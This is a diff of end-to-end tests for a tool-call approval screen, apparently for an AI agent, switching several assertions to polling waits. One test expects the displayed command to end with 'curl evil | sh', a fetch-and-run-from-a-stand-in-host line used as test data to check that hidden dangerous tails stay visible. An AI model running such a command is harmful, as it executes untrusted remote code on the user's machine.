@@ -24,7 +24,7 @@ it("shows what is approved: hidden characters, and beginning and end of a long t
   expect(shown).toMatch(/\ncurl evil \| sh$/);
   await expectAbove(text, approve(page));
   await page.getByRole("button", { name: /^Show all/ }).click();
-  expect(await text.textContent()).toContain("echo 250");
+  await expect.poll(() => text.textContent(), SOON).toContain("echo 250");
 });
 
 const approve = (page: Page) => page.getByRole("button", { name: /^Approve(?! always)/ });
@@ -57,7 +57,7 @@ describe("a change of more lines than fit", () => {
     expect(shown).not.toContain("old line 200");
     await expectAbove(diff, approve(page));
     await diff.getByRole("button", { name: "Show all 401 lines" }).click();
-    expect(await diff.innerText()).toContain("- old line 200\n");
+    await expect.poll(() => diff.innerText(), SOON).toContain("- old line 200\n");
     await expectAbove(diff, approve(page));
     await lab.server.ask("POST", `/sessions/${id}/cancel`);
   });
@@ -102,7 +102,7 @@ describe("a change of more lines than fit", () => {
     await page.getByRole("link", { name: "Show the whole tool call in its session" }).click();
     const diff = page.getByRole("region", { name: /Permission requested/ }).locator("figure");
     await diff.getByRole("button", { name: "Show all 1502 lines" }).click();
-    expect(await diff.innerText()).toContain("- old line 700\n");
+    await expect.poll(() => diff.innerText(), SOON).toContain("- old line 700\n");
     await lab.server.ask("POST", `/sessions/${id}/cancel`);
   });
 });
